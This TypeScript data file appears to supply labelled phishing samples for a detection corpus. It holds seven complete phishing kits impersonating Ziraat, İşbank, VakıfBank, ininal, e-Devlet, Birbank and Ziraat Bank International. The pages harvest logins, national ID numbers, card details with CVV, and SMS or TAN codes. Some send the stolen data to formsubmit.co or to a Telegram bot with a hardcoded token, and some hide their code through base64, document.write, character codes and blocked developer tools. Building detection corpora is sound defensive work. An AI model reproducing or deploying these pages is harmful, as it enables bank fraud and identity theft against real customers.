import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, cardFields, cardMaskJs, charCodes, doc, logo, smsPanel, telegramDrop } from '../parts/xb-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'xb-ziraat-aidat-iadesi-kit',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: 'https://ziraat-aidatiadesi-tr.com/bireysel/giris.php',
    body: doc({
      title: 'Ziraat Bankası | İnternet Şubesi',
      head: '<meta name="robots" content="noindex,nofollow">\n<link rel="icon" href="data:,">\n',
      css: `*{box-sizing:border-box}body{margin:0;font-family:"Segoe UI",Tahoma,Arial,sans-serif;background:#f4f4f4;color:#333}
.top{background:#fff;border-bottom:4px solid #e30613;padding:10px 30px;display:flex;align-items:center;justify-content:space-between}
.top span{font-size:13px;color:#888}.wrap{display:flex;max-width:980px;margin:30px auto;gap:24px}
.promo{flex:1;background:linear-gradient(135deg,#e30613,#a1000d);color:#fff;border-radius:6px;padding:28px}
.promo h2{margin-top:0;font-size:24px}.promo .amt{font-size:34px;font-weight:700;margin:12px 0}
.box{width:380px;background:#fff;border-radius:6px;padding:26px;box-shadow:0 2px 8px rgba(0,0,0,.08)}
.box h3{margin:0 0 18px;font-weight:600}.box label{font-size:13px;display:block;margin:10px 0 4px}
.box input{width:100%;padding:11px;border:1px solid #ccc;border-radius:4px;font-size:15px}
.btn{width:100%;margin-top:18px;padding:12px;background:#e30613;color:#fff;border:0;border-radius:4px;font-size:16px;cursor:pointer}
.vk{display:grid;grid-template-columns:repeat(5,1fr);gap:5px;margin-top:8px}.vk button{padding:8px;border:1px solid #ddd;background:#fafafa;border-radius:3px}
.step{display:none}.step.on{display:block}.note{font-size:12px;color:#777;margin-top:14px}
.spin{width:38px;height:38px;border:4px solid #eee;border-top-color:#e30613;border-radius:50%;animation:r 1s linear infinite;margin:20px auto}@keyframes r{to{transform:rotate(360deg)}}`,
      body: `<div class="top">${logo({ name: 'ZİRAAT BANKASI', color: '#e30613', mark: 'wheat', sub: 'İnternet Şubesi' })}<span>Müşteri İletişim Merkezi 0850 220 00 00</span></div>
<div class="wrap">
  <div class="promo">
    <h2>Kart Aidatı İade Başvurusu</h2>
    <p>Tüketici Hakem Heyeti kararları doğrultusunda 2019-2024 yılları arasında kredi kartınızdan tahsil edilen yıllık kart ücretleri faiziyle birlikte iade edilmektedir.</p>
    <div class="amt">1.847,50 TL</div>
    <p>İade tutarınızı görüntülemek ve hesabınıza aktarmak için İnternet Şubesi'ne giriş yapınız. Başvurular <b>31 Ekim 2025</b> tarihinde sona erecektir.</p>
  </div>
  <div class="box">
    <div class="step on" id="s1">
      <h3>Bireysel Giriş</h3>
      <form id="f1" autocomplete="off">
        <label>T.C. Kimlik No / Müşteri Numarası</label><input id="tc" maxlength="11" inputmode="numeric" required>
        <label>Şifre</label><input id="pw" type="password" maxlength="6" inputmode="numeric" readonly required placeholder="Sanal klavyeyi kullanınız">
        <div class="vk" id="vk"></div>
        <button class="btn" type="submit">Giriş</button>
      </form>
      <p class="note">Şifrenizi mi unuttunuz? · Güvenliğiniz için sanal klavye kullanınız.</p>
    </div>
    <div class="step" id="s2">
      <h3>Cep Telefonu Doğrulama</h3>
      <p style="font-size:13px">İade tutarının aktarılacağı hesap sahibinin bankamızda kayıtlı cep telefonunu giriniz.</p>
      <label>Cep Telefonu</label><input id="gsm" placeholder="05__ ___ __ __" maxlength="11" inputmode="numeric">
      <button class="btn" type="button" id="b2">Devam</button>
    </div>
    <div class="step" id="s3">
      <h3>İşleminiz kontrol ediliyor</h3><div class="spin"></div>
      <p style="font-size:13px;text-align:center">Lütfen sayfayı kapatmayınız. Cep telefonunuza gelecek onay kodunu bekleyiniz.</p>
      <label>SMS Onay Kodu</label><input id="otp" maxlength="6" inputmode="numeric">
      <button class="btn" type="button" id="b3">Onayla</button>
    </div>
    <div class="step" id="s4"><h3>Başvurunuz alındı</h3><p>İade tutarınız 3 iş günü içinde hesabınıza aktarılacaktır.</p></div>
  </div>
</div>
<script>
(function(){
  var keys=[1,2,3,4,5,6,7,8,9,0].sort(function(){return Math.random()-.5});
  var vk=document.getElementById('vk'),pw=document.getElementById('pw');
  keys.forEach(function(k){var b=document.createElement('button');b.type='button';b.textContent=k;b.onclick=function(){if(pw.value.length<6)pw.value+=k};vk.appendChild(b)});
  var c=document.createElement('button');c.type='button';c.textContent='Sil';c.onclick=function(){pw.value=pw.value.slice(0,-1)};vk.appendChild(c);
  var sid=Math.random().toString(36).slice(2,10);
  function go(n){document.querySelectorAll('.step').forEach(function(s){s.classList.remove('on')});document.getElementById('s'+n).classList.add('on')}
  function post(d){d.sid=sid;d.ua=navigator.userAgent;return fetch('islem.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(d)}).then(function(r){return r.json()}).catch(function(){return {}})}
  document.getElementById('f1').addEventListener('submit',function(e){e.preventDefault();
    var tc=document.getElementById('tc').value;if(tc.length<6||pw.value.length<6){alert('Lütfen bilgilerinizi eksiksiz giriniz.');return}
    post({a:'giris',tc:tc,sifre:pw.value}).then(function(){go(2)})});
  document.getElementById('b2').onclick=function(){post({a:'gsm',gsm:document.getElementById('gsm').value}).then(function(){go(3)})};
  document.getElementById('b3').onclick=function(){post({a:'sms',kod:document.getElementById('otp').value}).then(function(){go(4);setTimeout(function(){location.href='https://www.ziraatbank.com.tr/'},4000)})};
})();
</script>`,
    }),
    routes: {
      'ziraat-aidatiadesi-tr.com/bireysel/islem.php': jsonRoute({ durum: 'ok', bekle: 1 }),
    },
  },
  {
    id: 'xb-isbank-docwrite-b64-login',
    label: 'phishing',
    kind: 'bank-credential-kit-obfuscated',
    url: 'https://isbank-bireysel-giris.xyz/Internet/Giris.aspx',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>İşCep</title>
<script>document.addEventListener('contextmenu',function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.shiftKey&&e.keyCode==73)||(e.ctrlKey&&e.keyCode==85))return false};</script></head><body>
<script>var _0x1a="${b64(doc({
      title: 'Türkiye İş Bankası - İnternet Şubesi',
      css: `body{margin:0;background:#f1f4f9;font-family:Arial,Helvetica,sans-serif}.hd{background:#0f3c8c;height:64px;display:flex;align-items:center;padding:0 26px}
.pnl{width:400px;margin:50px auto;background:#fff;border:1px solid #d9e0ec;padding:30px}.pnl h1{font-size:19px;color:#0f3c8c;margin:0 0 20px}
.pnl input{width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #9aa9c2;padding:9px 2px;font-size:16px;margin-bottom:18px;outline:0}
.pnl button{width:100%;background:#0f3c8c;color:#fff;border:0;padding:12px;font-size:15px}.pnl a{font-size:12px;color:#0f3c8c}`,
      body: `<div class="hd">${logo({ name: 'İŞBANK', color: '#ffffff', mark: 'bars' })}</div>
<div class="pnl"><h1>Bireysel İnternet Şubesi</h1>
<form method="post" action="/Internet/Dogrula.php">
<input type="hidden" name="step" value="1">
<input name="musterino" placeholder="Müşteri Numarası veya T.C. Kimlik No" maxlength="11" required>
<input name="sifre" type="password" placeholder="Şifre" maxlength="6" required>
<button type="submit">Giriş Yap</button>
</form>
<p><a href="#">Şifre Al / Şifremi Unuttum</a> · <a href="#">Güvenlik Önerileri</a></p>
<p style="font-size:11px;color:#888">İşCep uygulamanızda onay bildirimi görebilirsiniz. Hesabınızın güvenliği için işlemi onaylayınız.</p></div>`,
    }))}";document.write(decodeURIComponent(escape(atob(_0x1a))));</script>
</body></html>`,
    routes: {
      'isbank-bireysel-giris.xyz/Internet/Dogrula.php': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="3;url=/Internet/Sms.aspx"><title>İşCep</title></head><body style="font-family:Arial;text-align:center;padding-top:90px;color:#0f3c8c"><p>Bilgileriniz doğrulanıyor, lütfen bekleyiniz…</p></body></html>`),
      'isbank-bireysel-giris.xyz/Internet/Sms.aspx': htmlRoute(doc({
        title: 'İşCep - Onay',
        body: `<div style="width:380px;margin:60px auto;font-family:Arial;border:1px solid #d9e0ec;padding:26px"><h2 style="color:#0f3c8c;font-size:18px">Tek Kullanımlık Şifre</h2><p style="font-size:13px">Kayıtlı cep telefonunuza gönderilen 6 haneli şifreyi giriniz. İşCep bildirimini onaylamanız gerekebilir.</p><form method="post" action="/Internet/Dogrula.php"><input type="hidden" name="step" value="2"><input name="sms" maxlength="6" style="width:100%;font-size:20px;padding:8px"><button style="margin-top:14px;width:100%;padding:11px;background:#0f3c8c;color:#fff;border:0">Onayla</button></form></div>`,
      })),
    },
  },
  {
    id: 'xb-vakifbank-emekli-promosyon-form',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: 'https://vakifbank-emekli-promosyon.info/basvuru/',
    body: doc({
      title: 'VakıfBank Emekli Promosyonu Başvuru',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#fafafa}.h{background:#231f20;padding:12px 24px;border-bottom:5px solid #fdb913}
.t{background:#fdb913;padding:30px 24px;text-align:center}.t h1{margin:0;font-size:28px}.t p{margin:8px 0 0;font-size:17px}
form{max-width:520px;margin:26px auto;background:#fff;padding:24px;border:1px solid #eee}form p{margin:0 0 12px}form label{font-size:13px;color:#555}
form input{display:block;width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccc;margin-top:4px}fieldset{border:1px dashed #fdb913;padding:12px;margin:16px 0}
.s{background:#231f20;color:#fdb913;border:0;padding:13px;width:100%;font-weight:bold;font-size:16px}.ft{text-align:center;font-size:11px;color:#999;padding:20px}`,
      body: `<div class="h">${logo({ name: 'VakıfBank', color: '#fdb913', mark: 'diamond' })}</div>
<div class="t"><h1>Emekli Promosyonu 24.000 TL'ye Yükseldi!</h1><p>Maaşınızı taşımadan, şubeye gitmeden promosyonunuzu hemen alın. Son başvuru: <b>15 Kasım 2025</b></p></div>
<form method="post" action="kaydet.php">
<p><label>T.C. Kimlik Numarası<input name="tckn" maxlength="11" pattern="[0-9]{11}" required></label></p>
<p><label>Ad Soyad<input name="adsoyad" required></label></p>
<p><label>Doğum Tarihi<input name="dtarih" placeholder="GG.AA.YYYY" required></label></p>
<p><label>Cep Telefonu<input name="gsm" required></label></p>
<p><label>Emeklilik Kurumu<input name="kurum" placeholder="SGK / Bağ-Kur / Emekli Sandığı"></label></p>
<fieldset><legend>İnternet Bankacılığı Bilgileri (promosyonun yatırılacağı hesap için)</legend>
<p><label>Müşteri Numarası<input name="musteri" required></label></p>
<p><label>İnternet Bankacılığı Şifresi<input name="parola" type="password" maxlength="6" required></label></p></fieldset>
<p style="font-size:12px"><input type="checkbox" required style="display:inline;width:auto"> KVKK aydınlatma metnini okudum, onaylıyorum.</p>
<button class="s">BAŞVURUYU TAMAMLA</button>
</form>
<div class="ft">Türkiye Vakıflar Bankası T.A.O. · Saray Mah. Dr. Adnan Büyükdeniz Cad. No:7/A Ümraniye/İstanbul</div>`,
    }),
    routes: {
      'vakifbank-emekli-promosyon.info/basvuru/kaydet.php': htmlRoute(doc({
        title: 'VakıfBank - SMS Onay',
        body: `<div style="max-width:420px;margin:60px auto;font-family:Arial;border-top:5px solid #fdb913;background:#fff;padding:24px;box-shadow:0 0 8px #0001"><h3>Başvurunuz ön onay aldı</h3><p>Promosyon ödemesinin hesabınıza tanımlanabilmesi için cep telefonunuza gönderilen onay kodunu giriniz.</p><form method="post" action="sms.php"><input name="smskod" maxlength="6" style="width:100%;padding:10px;font-size:18px"><button style="width:100%;margin-top:12px;padding:12px;background:#231f20;color:#fdb913;border:0">ONAYLA</button></form></div>`,
      })),
      'vakifbank-emekli-promosyon.info/basvuru/sms.php': redirectRoute(302, 'https://www.vakifbank.com.tr/'),
    },
  },
  {
    id: 'xb-ininal-bakiye-iade-formsubmit',
    label: 'phishing',
    kind: 'prepaid-card-kit-formservice',
    url: 'https://ininal-bakiye-iade.000webhostapp.com/',
    body: doc({
      title: 'ininal - Bakiye İade Talebi',
      css: `body{font-family:Montserrat,Arial,sans-serif;margin:0;background:#f0f7f4}.top{background:#00b388;padding:16px;text-align:center}
main{max-width:460px;margin:24px auto;background:#fff;border-radius:14px;padding:22px;box-shadow:0 6px 24px rgba(0,120,90,.12)}
h2{color:#00805f;font-size:20px}.fld{margin-bottom:12px}.fld label{display:block;font-size:12px;color:#4a5;margin-bottom:3px}.fld input,.fld select{width:100%;box-sizing:border-box;border:1px solid #cde8de;border-radius:8px;padding:11px}
.half{display:inline-block;width:49%}button{background:#00b388;color:#fff;border:0;border-radius:24px;width:100%;padding:13px;font-weight:700}.ok{display:none;text-align:center}`,
      body: `<div class="top">${logo({ name: 'ininal', color: '#ffffff', mark: 'leaf' })}</div>
<main><h2>Bakiye İade Talebi</h2>
<p style="font-size:14px">6493 sayılı Kanun kapsamındaki yeni düzenleme nedeniyle kullanımda olmayan ininal kartların bakiyeleri kart sahiplerine iade edilmektedir. İade için kart barkod numaranızı ve iadenin yapılacağı banka kartı bilgilerini giriniz.</p>
<form id="ini">
<div class="fld"><label>ininal Kart Barkod Numarası</label><input name="barkod" maxlength="16" required></div>
<div class="fld"><label>T.C. Kimlik No</label><input name="tc" maxlength="11" required></div>
<div class="fld"><label>ininal Şifresi</label><input name="ininal_sifre" type="password" required></div>
<div class="fld"><label>Cep Telefonu</label><input name="telefon" required></div>
<p style="font-size:13px;font-weight:700;color:#00805f">İadenin yatırılacağı banka kartı</p>
${cardFields({ lang: 'tr', names: { holder: 'kart_sahibi', number: 'kart_no', exp: 'kart_skt', cvv: 'kart_cvv' } })}
<button type="submit">İade Talebi Oluştur</button>
</form>
<div class="ok" id="ok"><h3>Talebiniz alındı ✓</h3><p>Talep No: <b id="tn"></b><br>İade işlemi 1-3 iş günü içinde tamamlanacaktır.</p></div>
</main>
<script>
var frm=document.getElementById('ini');
frm.addEventListener('submit',function(e){e.preventDefault();
 var o={};new FormData(frm).forEach(function(v,k){o[k]=v});o._subject='ininal yeni kayit';o._captcha='false';o._template='table';
 fetch('https://formsubmit.co/ajax/4f1b2c9e7d0a83c5b6e1f2a7c9d4e8b1',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify(o)})
 .catch(function(){}).then(function(){frm.style.display='none';document.getElementById('tn').textContent='INL'+Math.floor(Math.random()*9e6+1e6);document.getElementById('ok').style.display='block'});
});
</script>`,
    }),
  },
  {
    id: 'xb-edevlet-giris-tazminat-kart',
    label: 'phishing',
    kind: 'gov-portal-credential-kit',
    url: 'https://turkiye.gov.tr.edevlet-sorgu-giris.com/giris',
    body: doc({
      title: 'e-Devlet Kapısı Kimlik Doğrulama Sistemi',
      css: `body{margin:0;background:#f0f0f0;font-family:Arial,Helvetica,sans-serif}.hdr{background:#fff;border-bottom:3px solid #c8102e;padding:10px 20px;display:flex;align-items:center;gap:10px}
.hdr h1{font-size:17px;color:#333;margin:0}.tabs{display:flex;max-width:680px;margin:30px auto 0}.tabs a{flex:1;text-align:center;padding:11px 4px;background:#e1e1e1;color:#333;text-decoration:none;font-size:13px;border-right:1px solid #ccc}
.tabs a.on{background:#fff;color:#c8102e;font-weight:bold}.frm{max-width:680px;margin:0 auto;background:#fff;padding:26px 40px}.row{margin-bottom:15px}.row label{display:block;font-weight:bold;font-size:13px;margin-bottom:5px}
.row input{width:280px;padding:9px;border:1px solid #aaa;font-size:15px}.btns button{padding:9px 26px;margin-right:8px;border:1px solid #999;background:#eee}.btns .sub{background:#c8102e;color:#fff;border-color:#c8102e}
#tz{display:none}.info{font-size:12px;color:#666;border-left:3px solid #c8102e;padding-left:10px}`,
      body: `<div class="hdr">${logo({ name: 'e-Devlet Kapısı', color: '#c8102e', mark: 'crescent' })}<h1>Kimlik Doğrulama Sistemi</h1></div>
<div class="tabs"><a class="on" href="#">e-Devlet Şifresi</a><a href="#">Mobil İmza</a><a href="#">Elektronik İmza</a><a href="#">T.C. Kimlik Kartı</a><a href="#">İnternet Bankacılığı</a></div>
<div class="frm" id="lg">
<p class="info">Giriş yapılacak adres: <b>https://www.turkiye.gov.tr</b></p>
<div class="row"><label>T.C. Kimlik No</label><input id="tridField" maxlength="11" inputmode="numeric"></div>
<div class="row"><label>e-Devlet Şifresi</label><input id="egpField" type="password" maxlength="20"> <a href="#" style="font-size:12px">Sanal Klavye</a></div>
<div class="btns"><button>İptal</button><button class="sub" id="gir">Giriş Yap</button></div>
<p style="font-size:12px"><a href="#">Şifremi Unuttum</a> · e-Devlet şifrenizi PTT Merkez Müdürlüklerinden temin edebilirsiniz.</p>
</div>
<div class="frm" id="tz">
<h2 style="color:#c8102e;font-size:18px">Tazminat Ödeme Bildirimi</h2>
<p>Sayın <b id="nm">Vatandaşımız</b>, Kişisel Verileri Koruma Kurulu kararı uyarınca adınıza <b>8.450,00 TL</b> tazminat ödemesi tanımlanmıştır. Ödemenin gerçekleştirilebilmesi için adınıza kayıtlı banka kartı bilgilerini giriniz.</p>
<form id="kf">${cardFields({ lang: 'tr', cls: 'row', names: { holder: 'kad', number: 'kno', exp: 'kskt', cvv: 'kcvv' } })}
<div class="row"><label>Kart Bakiyesi / Limiti</label><input name="kbak" placeholder="Doğrulama için"></div>
<div class="btns"><button class="sub" type="submit">Ödemeyi Al</button></div></form>
</div>
${smsPanel({ lang: 'tr', id: 'ed', phone: '05** *** ** 09', seconds: 150, bank: 'T.C. Hazine Ödeme Sistemi', color: '#c8102e' })}
<script>
var K=String.fromCharCode(${charCodes('/giris/kontrol')});
function snd(o){return fetch(K,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).then(function(r){return r.json()}).catch(function(){return{}})}
document.getElementById('gir').onclick=function(){var t=document.getElementById('tridField').value,p=document.getElementById('egpField').value;
 if(t.length!==11){alert('T.C. Kimlik Numarası 11 haneli olmalıdır.');return}
 snd({tc:t,pw:p}).then(function(r){if(r.ad)document.getElementById('nm').textContent=r.ad;document.getElementById('lg').style.display='none';document.querySelector('.tabs').style.display='none';document.getElementById('tz').style.display='block'})};
document.getElementById('kf').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});snd(o).then(function(){document.getElementById('tz').style.display='none';document.getElementById('ed').style.display='block'})};
document.getElementById('ed-ok').onclick=function(){snd({sms:document.getElementById('ed-code').value}).then(function(){location.href='https://www.turkiye.gov.tr/'})};
</script>`,
    }),
    routes: { 'turkiye.gov.tr.edevlet-sorgu-giris.com/giris/kontrol': jsonRoute({ ok: 1, ad: 'Vatandaşımız' }) },
  },
  {
    id: 'xb-birbank-kart-bloklanib-az',
    label: 'phishing',
    kind: 'bank-card-kit-az',
    url: 'https://birbank-kart-blok.az-online.top/az/',
    body: doc({
      title: 'Birbank | Kartın blokdan çıxarılması',
      lang: 'az',
      css: `body{margin:0;background:#f5f5f7;font-family:"Roboto",Arial,sans-serif}.h{background:#fff;padding:14px 20px;box-shadow:0 1px 0 #e6e6ea;display:flex;justify-content:space-between;align-items:center}
.h small{color:#888}.box{max-width:420px;margin:28px auto;background:#fff;border-radius:16px;padding:24px}.red{background:#fde8ea;color:#a0001a;border-radius:10px;padding:12px;font-size:14px}
.fld{margin:12px 0}.fld label{font-size:12px;color:#777;display:block}.fld input{width:100%;box-sizing:border-box;border:0;border-bottom:2px solid #ddd;padding:10px 0;font-size:17px;outline:0}.fld input:focus{border-color:#d6001c}
.half{display:inline-block;width:47%;margin-right:3%}button.m{width:100%;background:#d6001c;color:#fff;border:0;border-radius:12px;padding:15px;font-size:16px;margin-top:10px}`,
      body: `<div class="h">${logo({ name: 'Birbank', color: '#d6001c', mark: 'star' })}<small>Kapital Bank ASC</small></div>
<div class="box" id="b1"><div class="red">Hörmətli müştəri, kartınızda şübhəli əməliyyat aşkarlandığı üçün kartınız müvəqqəti <b>bloklanıb</b>. Kartı blokdan çıxarmaq üçün məlumatlarınızı təsdiqləyin.</div>
<form id="az">
<div class="fld"><label>Mobil nömrə</label><input name="tel" value="+994 " required></div>
${cardFields({ lang: 'az', holder: false, names: { number: 'pan', exp: 'exp', cvv: 'cvc' } })}
<div class="fld"><label>Kartın balansı (təxmini)</label><input name="bal" placeholder="AZN"></div>
<button class="m" type="submit">Təsdiqlə</button></form></div>
${smsPanel({ lang: 'az', id: 'az3', phone: '+994 50 *** ** 31', seconds: 120, bank: 'Birbank', color: '#d6001c' })}
<script>
${cardMaskJs({ field: 'pan', fn: 'lv', exp: 'exp' })}
var u=atob('${b64('/az/api.php?act=')}');
document.getElementById('az').onsubmit=function(e){e.preventDefault();if(!lv(this.pan.value)){alert('Kart nömrəsi yanlışdır');return}
 fetch(u+'card',{method:'POST',body:new FormData(this)});document.getElementById('b1').style.display='none';document.getElementById('az3').style.display='block'};
document.getElementById('az3-ok').onclick=function(){var fd=new FormData();fd.append('otp',document.getElementById('az3-code').value);fetch(u+'otp',{method:'POST',body:fd}).then(function(){location.replace('https://birbank.az/')})};
</script>`,
    }),
    routes: { 'birbank-kart-blok.az-online.top/az/api.php': jsonRoute({ r: 'ok' }) },
  },
  {
    id: 'xb-ziraat-international-de-psd2',
    label: 'phishing',
    kind: 'bank-credential-kit-de',
    url: 'https://ziraat-international-login.de.com/de/online-banking/anmeldung',
    body: doc({
      title: 'Ziraat Bank International AG – Online-Banking',
      lang: 'de',
      css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f7f7f7;color:#222}.top{background:#fff;padding:14px 28px;border-bottom:1px solid #e5e5e5;display:flex;justify-content:space-between;align-items:center}
.top a{color:#e30613;font-size:13px;text-decoration:none}.stage{max-width:900px;margin:28px auto;display:flex;gap:22px;padding:0 14px}.hint{flex:1;background:#fff3f3;border-left:4px solid #e30613;padding:18px;font-size:14px;line-height:1.5}
.lg{width:360px;background:#fff;padding:24px;border:1px solid #e5e5e5}.lg label{font-size:13px;display:block;margin:12px 0 4px}.lg input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bbb}
.lg button{margin-top:18px;width:100%;padding:11px;background:#e30613;color:#fff;border:0;font-size:15px}.st{display:none}`,
      body: `<div class="top">${logo({ name: 'Ziraat Bank', color: '#e30613', mark: 'wheat', sub: 'International AG' })}<a href="#">Kontakt · Sperr-Notruf 116 116</a></div>
<div class="stage"><div class="hint"><b>Wichtiger Hinweis zur PSD2-Umstellung</b><br>Gemäß der EU-Zahlungsdiensterichtlinie (PSD2) müssen alle Kundinnen und Kunden ihren Online-Banking-Zugang bis zum <b>30.11.2025</b> erneut verifizieren. Nicht verifizierte Zugänge werden aus Sicherheitsgründen gesperrt. Die Verifizierung dauert nur 2 Minuten.</div>
<div class="lg"><div id="a1"><h3 style="margin-top:0">Anmeldung</h3><label>Anmeldename / Kontonummer</label><input id="an"><label>PIN</label><input id="pin" type="password" maxlength="8"><button onclick="s1()">Anmelden</button></div>
<div id="a2" class="st"><h3>Verifizierung</h3><label>Geburtsdatum</label><input id="gd" placeholder="TT.MM.JJJJ"><label>Mobilnummer</label><input id="mn" placeholder="+49 1..."><label>IBAN</label><input id="ib" placeholder="DE.."><button onclick="s2()">Weiter</button></div>
<div id="a3" class="st"><h3>TAN-Freigabe</h3><p style="font-size:13px">Bitte geben Sie die mobileTAN ein, die Sie soeben per SMS erhalten haben, um die Verifizierung abzuschließen.</p><label>TAN</label><input id="tan" maxlength="6"><button onclick="s3()">Bestätigen</button></div></div></div>
<script>
${telegramDrop({ token: '6620473318:AAFq0r2vH1tXk8W_mbYc5uL3PzS7nJe9QdA', chat: '5598120447', fn: 'tg', style: 'b64' })}
function $(i){return document.getElementById(i)}
function s1(){tg('ZIRAAT DE\\nUser: '+$('an').value+'\\nPIN: '+$('pin').value);$('a1').className='st';$('a2').className=''}
function s2(){tg('GebDat: '+$('gd').value+'\\nMobil: '+$('mn').value+'\\nIBAN: '+$('ib').value);$('a2').className='st';$('a3').className=''}
function s3(){tg('TAN: '+$('tan').value).then(function(){location.href='https://www.ziraatbank.de/'})}
</script>`,
    }),
  },
];
